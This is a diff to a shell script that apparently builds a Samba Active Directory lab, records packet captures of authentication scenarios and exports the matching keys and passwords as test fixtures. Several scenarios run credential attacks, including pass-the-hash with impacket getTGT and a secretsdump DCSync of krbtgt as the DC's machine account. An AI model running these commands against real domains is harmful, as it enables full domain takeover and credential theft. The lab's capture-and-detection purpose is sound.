@@ -386,6 +386,7 @@ scn_10_mixed() {
 scn_11_samr_reset() {
     member_join ws8
     ensure_node ws7
+    lab_key_snapshot 'WS08$' "as joined: the password WS08 keeps (before the reset from WS07)"
     cap_start 11-samr-reset
     on ws8 net rpc testjoin -S "$DCFQDN"                          # before: accepted
     on ws7 net rpc password 'WS08$' 'Reset-From-Ws07-1!' -U "Administrator%$ADMINPASS" -S "$DCFQDN" \
@@ -394,6 +395,10 @@ scn_11_samr_reset() {
     on ws8 net rpc testjoin -S "$DCFQDN" || true                  # after: ACCESS_DENIED
     machine_kinit ws8 || true                                     # KDC_ERR_PREAUTH_FAILED
     cap_stop
+    lab_key_snapshot 'WS08$' "after the SAMR reset from WS07 (the DC's current)"
+    lab_export_keys 11-samr-reset 'WS08$' Administrator 'DC1$' krbtgt
+    lab_export_password 11-samr-reset "WS08\$@$REALM" 'Reset-From-Ws07-1!' "set through SAMR from WS07 (the DC's current)"
+    lab_export_password 11-samr-reset "Administrator@$REALM" "$ADMINPASS" "the administrator who reset it"
 }
 # 11a. HTTP Negotiate on WinRM's port: Apache + mod_auth_gssapi on SRV01
 #      listening on 5985, a WinRM-shaped POST /wsman from WS07 with a healthy
@@ -407,7 +412,9 @@ member_resync_secret() {   # node
     pw="Tw-Lab-Resync-$RANDOM-1!"
     on dc samba-tool user setpassword "$(nb_of "$n")\$" --newpassword="$pw" >/dev/null
     printf '%s\n' "$pw" | on "$n" net changesecretpw -f -i >/dev/null
+    RESYNC_PW[$n]=$pw
 }
+declare -A RESYNC_PW 2>/dev/null || true
 
 scn_11_http_5985() {
     member_join srv1
@@ -422,6 +429,11 @@ scn_11_http_5985() {
     httpd_round "http://srv01.$DNSDOMAIN:5985/wsman" -X POST -H 'Content-Type: application/soap+xml;charset=UTF-8' --data-binary ''
     cap_stop
     CAP_EXTRA=
+    lab_export_keys 11-http-5985 'SRV01$' alice 'DC1$' krbtgt
+    lab_export_password 11-http-5985 "alice@$REALM" "$USERPASS" "user created by the lab"
+    [ -n "${RESYNC_PW[srv1]:-}" ] &&
+        lab_export_password 11-http-5985 "SRV01\$@$REALM" "${RESYNC_PW[srv1]}" "SRV01's secret, set on both sides before the capture"
+    return 0
 }
 
 # 11b. Secure dynamic DNS update (RFC 3645 GSS-TSIG) as a member does it:
@@ -438,6 +450,8 @@ scn_11_gss_tsig() {
         | on ws1 env "$MCC" nsupdate -g || true
     cap_stop
     CAP_EXTRA=
+    # (internal DNS: DNS/dc1's tickets are under DC1$'s keys)
+    lab_export_keys 11-gss-tsig 'WS01$' 'DC1$' krbtgt
 }
 
 impacket_example() {   # script name (getST.py …): where Debian's python3-impacket put it
@@ -462,6 +476,7 @@ scn_11_s4u_deleted() {
     nt=$(keytab_nthash ws1)
     getst=$(impacket_example getST.py)
     on dc samba-tool user create leaver "$USERPASS" >/dev/null
+    lab_key_snapshot leaver "created and then deleted before the capture"
     on dc samba-tool user delete leaver >/dev/null
     machine_kinit ws1
     cap_start 11-s4u-deleted
@@ -471,6 +486,8 @@ scn_11_s4u_deleted() {
     on ws1 sh -c 'cd /tmp && exec /usr/bin/python3 "$@"' - "$getst" -spn "cifs/$DCFQDN" -impersonate nosuchuser \
         -dc-ip "$DC_IP" -hashes ":$nt" "$REALM/WS01\$" </dev/null || true
     cap_stop
+    lab_export_keys 11-s4u-deleted 'WS01$' leaver 'DC1$' krbtgt
+    lab_export_password 11-s4u-deleted "leaver@$REALM" "$USERPASS" "user created and deleted before the capture"
 }
 
 # 11d. DCSync from a host that is not a DC: on WS01, with WS01's machine
@@ -489,6 +506,7 @@ scn_11_dcsync() {
         --targetdir=/tmp/twclone --use-kerberos=required </dev/null || true
     cap_stop
     CAP_EXTRA=
+    lab_export_keys 11-dcsync 'WS01$' 'DC1$' krbtgt
 }
 
 # ---------------------------------------------------------------- issue 9/10 scenarios
@@ -774,4 +792,77 @@ scn_12_ntlm_passthrough() {
     member_stop_winbindd srv2
     lab_export_keys 12-ntlm-passthrough 'SRV02$' alice 'DC1$' krbtgt
     lab_export_password 12-ntlm-passthrough "alice@$REALM" "$USERPASS" "user created by the lab"
+}
+
+# ---------------------------------------------------------------- issue 11/10 scenarios (13-*)
+
+# 13a. A machine password rotated over a sealed NETLOGON channel whose setup
+#      is in the capture (issue 11): WS18, joined, no winbindd yet. In the
+#      capture: `net rpc changetrustpw` opens a new connection
+#      (ReqChallenge + Authenticate3 in the clear, then the schannel bind)
+#      and sends NetrServerPasswordSet2 sealed under that session key
+#      (rotation 1); then winbindd starts, `wbinfo -t` sets up its secure
+#      channel (also in the capture) and `wbinfo --change-secret` rotates
+#      again on it (rotation 2). Keys of all three generations are exported.
+scn_13_rotation_sealed() {
+    member_join ws18
+    lab_key_snapshot 'WS18$' "as joined (generation 1: before both rotations)"
+    cap_start 13-rotation-sealed
+    on ws18 net rpc changetrustpw -S "$DCFQDN"          # NetrServerPasswordSet2, sealed, new channel
+    lab_key_snapshot 'WS18$' "after rotation 1 (net rpc changetrustpw)"
+    member_start_winbindd ws18
+    on ws18 wbinfo -t                                   # winbindd's channel, set up in the capture
+    on ws18 wbinfo --change-secret                      # NetrServerPasswordSet2 on winbindd's channel
+    lab_key_snapshot 'WS18$' "after rotation 2 (wbinfo --change-secret, the DC's current)"
+    on ws18 wbinfo -t
+    cap_stop
+    member_stop_winbindd ws18
+    lab_export_keys 13-rotation-sealed 'WS18$' 'DC1$' krbtgt
+    # (Samba 4.17 does not write a NETLOGON-rotated secret into the keytab)
+    on ws18 net ads keytab create -P >/dev/null || true
+}
+
+# the NT hash of an account from the keys this lab run kept (RC4 key, newest kvno)
+kept_nthash() {   # account
+    local base
+    base=$(echo "${1%\$}" | tr A-Z a-z)
+    klist -k -K -e "$LAB/keys/$base.keytab" | awk '/arcfour-hmac/ { k = $NF } END { gsub(/[()]|0x/, "", k); print k }'
+}
+
+# 13b. The DC's machine account used from another host (issue 10, "an
+#      attacker's address must not become the victim's"): a member (WS01's
+#      Kerberos and SMB2 session to DC1) shows where DC1 lives (its services
+#      answer from 10.77.0.10; the DC's own Kerberos to itself never reaches
+#      the bridge). Then ATK01 (10.77.0.66, no domain member) uses DC1$'s
+#      keys, as after a Zerologon reset or with a stolen DC backup: impacket
+#      getTGT (AS-REQ as DC1$ with the NT hash, RC4), a NETLOGON
+#      Authenticate3 as DC1$ (ServerSecureChannel), impacket secretsdump's
+#      DCSync with NTLM as DC1$, and MIT kinit with DC1$'s exported keytab
+#      followed by a DRSUAPI DsBind + DsGetNCChanges (REPL_OBJ for
+#      krbtgt) with Kerberos (dcsync_one.py): DC1$ has the replication rights.
+scn_13_dc_credentials() {
+    member_join ws1
+    ensure_node atk
+    lab_key_snapshot 'DC1$' "DC1's current (exported before the capture; the attacker uses it)"
+    local nt getst sd t=$LAB/atk/tmp      # (the nodes share the host's /tmp)
+    nt=$(kept_nthash 'DC1$')
+    [ -n "$nt" ] || die "no NT hash for DC1\$"
+    getst=$(impacket_example getTGT.py)
+    sd=$(impacket_example secretsdump.py)
+    cp "$LAB/keys/dc1.keytab" "$t/dc1.keytab"
+    CAP_EXTRA="or port $((RPC_PORT + 1))"
+    cap_start 13-dc-credentials
+    healthy_round ws1                                                  # DC1's services answer from .10
+    on atk sh -c 'cd "$0" && exec /usr/bin/python3 "$@"' "$t" "$getst" -hashes ":$nt" -dc-ip "$DC_IP" \
+        "$REALM/DC1\$" </dev/null || true                             # AS-REQ as DC1$ from .66 (RC4)
+    on atk "$PY" "$HERE/nrpc_probe.py" authenticate --dc "$DC_IP" --transport tcp --computer DC1 \
+        --channel server --nthash "$nt" || true                        # NETLOGON as DC1$ from .66
+    on atk sh -c 'cd "$0" && exec /usr/bin/python3 "$@"' "$t" "$sd" -just-dc-user "$NBDOMAIN/krbtgt" \
+        -hashes ":$nt" "$REALM/DC1\$@$DC_IP" </dev/null || true      # DCSync as DC1$ (NTLM)
+    on atk env KRB5CCNAME="FILE:$t/dc1.ccache" kinit -k -t "$t/dc1.keytab" "DC1\$@$REALM" || true
+    on atk env KRB5CCNAME="FILE:$t/dc1.ccache" "$PY" "$HERE/dcsync_one.py" "$DCFQDN" \
+        "CN=krbtgt,CN=Users,$DOMAIN_NC" </dev/null || true             # DCSync as DC1$ (Kerberos)
+    cap_stop
+    CAP_EXTRA=
+    lab_export_keys 13-dc-credentials 'DC1$' 'WS01$' krbtgt
 }
